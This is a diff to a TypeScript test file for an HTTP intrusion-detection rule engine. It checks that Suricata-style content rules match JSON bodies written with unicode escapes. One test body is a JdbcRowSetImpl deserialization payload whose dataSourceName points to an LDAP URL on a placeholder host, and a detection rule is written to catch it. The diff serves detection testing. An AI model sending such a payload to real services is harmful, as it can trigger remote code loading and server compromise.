@@ -49,8 +49,20 @@ describe('decoded views: a content hidden in a decoded form', () => {
     const escaped = `{"expr":"${[...PAYLOAD].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`;
     const inspection = buildInspection(jsonPost(escaped));
     const [hit] = gateFor(`${SURICATA} (${rule} sid:1;)`, 'suricata').evaluate(inspection).hits;
-    expect(hit).toMatchObject({ buffer: 'clientBody', decoded: 'json' });
+    expect(hit).toMatchObject({ buffer: 'clientBody', decoded: 'json-body' });
     expect(inspection.targets[hit.targetIndex].name).toBe('expr');
+  });
+
+  it('shows a JSON body written with escapes whole, so a content spanning key and value matches', () => {
+    const body = '{"\\u0040type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a"}';
+    const inspection = buildInspection(jsonPost(body));
+    const [hit] = gateFor(`${SURICATA} (http.request_body; content:"|22|@type|22 3a 22|com.sun.rowset"; sid:1;)`, 'suricata').evaluate(inspection).hits;
+    expect(hit).toMatchObject({ decoded: 'json-body', offset: 1 });
+    expect(hits('http.request_body; content:"|22|@type|22|";', jsonPost('{"@type":"x"}'))).toHaveLength(1);
+  });
+
+  it('matches a form\'s non-ASCII text by its UTF-8 bytes, as in the buffers', () => {
+    expect(hits('http.request_body; content:"|c3 a9|t|c3 a9|";', jsonPost('{"season":"\\u00e9t\\u00e9"}'))).toHaveLength(1);
   });
 
   it('leaves the raw buffers as sent: pkt_data never sees a decoded form', () => {
@@ -77,7 +89,8 @@ describe('decoded views: a content hidden in a decoded form', () => {
 
   it('did not match before: the same rules on the same requests with no decoded forms', () => {
     const plain = (raw: RawRequest) => {
-      const inspection = buildInspection(raw);
+      // The gate as it was: no target carries a form, and the body is not read as JSON for a whole-body view.
+      const inspection = { ...buildInspection(raw), bodyKind: 'text' as const };
       for (const t of inspection.targets) {
         t.decoded = [];
         t.decodedVia = [];
